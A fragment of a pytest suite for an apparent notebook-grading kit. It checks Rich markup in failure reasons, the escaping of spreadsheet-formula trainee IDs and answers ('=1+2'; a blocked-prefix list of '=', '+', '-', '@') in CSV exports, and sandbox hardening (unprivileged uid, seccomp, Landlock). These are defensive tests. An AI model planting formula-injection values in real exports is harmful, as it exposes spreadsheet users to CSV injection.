def test_malformed_notebooks_fail_with_a_reason_that_prints(cohort):
    from rich.console import Console

    assert cohort["submissions"].loc["bad_count", "status"] == "failed"
    assert "[/bold]" in cohort["submissions"].loc["bad_count", "reason"]
    assert cohort["submissions"].loc["deep", "status"] == "failed"
    console = Console(file=io.StringIO(), width=200)
    console.print(cohort["summary"].table("en"))
    assert "[/bold]" in console.file.getvalue()


def test_trainee_ids_that_look_like_formulas_are_neutralised_in_the_lms_csv(cohort, tmp_path):
    path = cohort["book"].export_csv(tmp_path / "lms.csv", exercise=EXERCISE)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        ids = [row["trainee_id"] for row in csv.DictReader(fh)]
    assert "'=1+2" in ids and "=1+2" not in ids


def test_answer_text_in_the_manual_sheet_is_neutralised(cohort, tmp_path):
    from kit.grading.manual import export_manual

    spec = build_spec(EXERCISE, read_master(EXERCISE))
    path = export_manual(cohort["book"], spec, tmp_path / "manual.csv", "en")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = {row["trainee_id"]: row for row in csv.DictReader(fh)}
    assert "'=1+2" in rows
    assert all(not row["answer"].startswith(("=", "+", "-", "@")) for row in rows.values())


def test_every_layer_was_active_in_the_kernel(cohort):
    status = dict(line.split(":", 1) for line in evidence(cohort, "proc_walk")["status"][1].splitlines())
    uid = int(status["Uid"].split()[0])
    assert UID_RANGE[0] <= uid < UID_RANGE[1] or os.geteuid() != 0  # its own unprivileged uid
    assert status["CapEff"].strip() == "0" * 16 and status["NoNewPrivs"].strip() == "1"
    assert status["Seccomp"].strip() == "2" and int(status["Seccomp_filters"]) >= 1
    env = evidence(cohort, "environment")["env"][1]
    assert int(env["KIT_SANDBOX_LANDLOCK"]) >= 1
